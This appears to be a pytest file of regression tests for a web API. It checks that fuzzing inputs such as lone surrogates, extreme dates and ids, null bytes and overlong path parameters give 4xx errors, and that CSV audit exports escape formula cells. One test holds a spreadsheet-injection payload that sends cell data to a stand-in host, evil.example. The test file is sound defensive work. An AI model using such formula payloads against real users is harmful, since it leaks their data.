"""The 500s schema fuzzing found (issue 9, items 10 and 12), each a clear 4xx now,
on SQLite and on PostgreSQL; and audit exports that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io

import pytest

SURROGATE = '"a\\ud800b"'  # JSON for a string holding a lone surrogate: not valid Unicode


def raw_json(client, method: str, path: str, body: str):
    return client.request(method, path, content=body.encode(), headers={"content-type": "application/json"})


@pytest.mark.parametrize("length", [33, 50, 64])
def test_a_long_unknown_tier_is_a_404_and_audited(server, length):
    alice = server.client(server.add_user("alice", "pro"))
    admin = server.client(server.add_user("root", "pro", admin=True))
    name = ("t" * length)[:length]
    resp = alice.post("/api/models/tier", json={"tier": name})
    assert resp.status_code == 404 and resp.json()["error"]["code"] == "unknown_tier"
    entries = admin.get("/api/admin/audit", params={"action": "switch"}).json()["entries"]
    assert [(e["subject"], e["to_tier"], e["result"]) for e in entries] == [("alice", name, "unknown_tier")]


@pytest.mark.parametrize(
    "method, path, body",
    [
        ("POST", "/api/conversations", f'{{"title": {SURROGATE}}}'),
        ("POST", "/api/auth/login", f'{{"name": {SURROGATE}, "password": "x"}}'),
        ("POST", "/api/auth/login", f'{{"name": "alice", "password": {SURROGATE}}}'),
        ("POST", "/api/models/tier", f'{{"tier": {SURROGATE}}}'),
        ("POST", "/api/models/warm", f'{{"tier": {SURROGATE}}}'),
        ("PUT", "/api/admin/users/alice/plan", f'{{"plan": {SURROGATE}}}'),
        ("PUT", "/api/admin/flags/model_switching", f'{{"allow": [{SURROGATE}]}}'),
        ("POST", "/api/conversations", '{"title": "\\udfff"}'),
    ],
)
def test_a_lone_surrogate_in_any_text_field_is_a_422(server, method, path, body):
    admin = server.client(server.add_user("alice", "pro", admin=True))
    resp = raw_json(admin, method, path, body)
    assert resp.status_code == 422, resp.text
    assert "unpaired surrogates" in resp.text or "unicode" in resp.text.lower()


def test_a_lone_surrogate_in_a_message_is_a_422_and_stores_nothing(server):
    alice = server.client(server.add_user("alice", "pro"))
    cid = alice.post("/api/conversations", json={"title": "t"}).json()["id"]
    resp = raw_json(alice, "POST", f"/api/conversations/{cid}/messages", '{"content": "hi \\ud83d there"}')
    assert resp.status_code == 422 and resp.json()["error"]["problems"][0]["field"] == "content"
    assert alice.get(f"/api/conversations/{cid}").json()["messages"] == []
    paired = raw_json(alice, "POST", "/api/conversations", '{"title": "smile \\ud83d\\ude00"}')
    assert paired.status_code == 201 and paired.json()["title"] == "smile \U0001F600"


@pytest.mark.parametrize(
    "params, status",
    [
        ({"since": "0001-01-01T00:00:00+01:00"}, 422),
        ({"until": "9999-12-31T23:30:00-05:00"}, 422),
        ({"since": "0001-01-01T00:30:00-01:00"}, 200),
        ({"since": "0001-01-01T00:00:00"}, 200),
        ({"until": "9999-12-31T23:59:59+00:00"}, 200),
        ({"until": "9999-12-31T23:59:59+05:00"}, 200),
    ],
)
def test_export_moments_at_the_ends_of_the_calendar_never_500(server, params, status):
    admin = server.client(server.add_user("root", "pro", admin=True))
    resp = admin.get("/api/admin/audit/export", params=params)
    assert resp.status_code == status, resp.text
    if status == 422:
        assert "out of range once converted to UTC" in resp.json()["error"]["message"]


@pytest.mark.parametrize("before_id, status", [(2**31 - 1, 200), (2**31, 422), (2**63, 422), (10**30, 422), (0, 422)])
def test_before_id_beyond_the_id_column_is_a_422(server, before_id, status):
    admin = server.client(server.add_user("root", "pro", admin=True))
    assert admin.get("/api/admin/audit", params={"before_id": before_id}).status_code == status


@pytest.mark.parametrize(
    "method, path, body",
    [
        ("PUT", "/api/admin/users/ali%00ce/plan", {"plan": "pro"}),
        ("PUT", "/api/admin/users/%00/plan", {"plan": "pro"}),
        ("GET", "/api/admin/flags/model%00switching", None),
        ("PUT", "/api/admin/flags/%00", {"state": "on"}),
        ("POST", "/api/models/pro%00/unload", None),
        ("GET", "/api/conversations/ab%00cd", None),
        ("DELETE", "/api/conversations/ab%00cd", None),
        ("POST", "/api/conversations/ab%00cd/messages", {"content": "hi"}),
        ("GET", "/api/conversations/ab/messages/c%00d/stream", None),
        ("GET", "/api/conversations/ab%01cd", None),
        ("GET", "/app.js%00", None),
    ],
)
def test_a_control_character_in_any_path_parameter_is_a_404(server, method, path, body):
    admin = server.client(server.add_user("root", "pro", admin=True))
    server.add_user("alice", "standard")
    resp = admin.request(method, path, json=body)
    assert resp.status_code == 404 and resp.json()["error"]["code"] == "not_found", resp.text


@pytest.mark.parametrize(
    "method, path, body",
    [
        ("PUT", "/api/admin/users/" + "a" * 5000 + "/plan", {"plan": "pro"}),
        ("GET", "/api/admin/flags/" + "f" * 5000, None),
        ("POST", "/api/models/" + "t" * 5000 + "/unload", None),
        ("GET", "/api/conversations/" + "c" * 5000, None),
        ("GET", "/api/conversations/c/messages/" + "m" * 5000 + "/stream", None),
        ("PUT", "/api/admin/users/%F0%9F%98%80/plan", {"plan": "pro"}),
        ("PUT", "/api/admin/users/%ED%A0%80/plan", {"plan": "pro"}),
    ],
)
def test_long_or_odd_path_parameters_are_4xx(server, method, path, body):
    admin = server.client(server.add_user("root", "pro", admin=True))
    resp = admin.request(method, path, json=body)
    assert 400 <= resp.status_code < 500, (resp.status_code, resp.text[:300])


def test_csv_export_cells_cannot_run_as_formulas(server):
    alice = server.client(server.add_user("alice", "pro"))
    admin = server.client(server.add_user("root", "pro", admin=True))
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for tier in hostile:
        assert alice.post("/api/models/tier", json={"tier": tier}).status_code == 404
    alice.post("/api/models/tier", json={"tier": "x-=plain"})
    resp = admin.get("/api/admin/audit/export", params={"format": "csv", "action": "switch"})
    cells = [row["to_tier"] for row in csv.DictReader(io.StringIO(resp.text, newline=""))]
    assert cells == ["'" + tier for tier in hostile] + ["x-=plain"]
    rows = admin.get("/api/admin/audit/export", params={"format": "jsonl", "action": "switch"}).text
    assert '"to_tier": "+1+1"' in rows  # JSON lines keep the value as it is
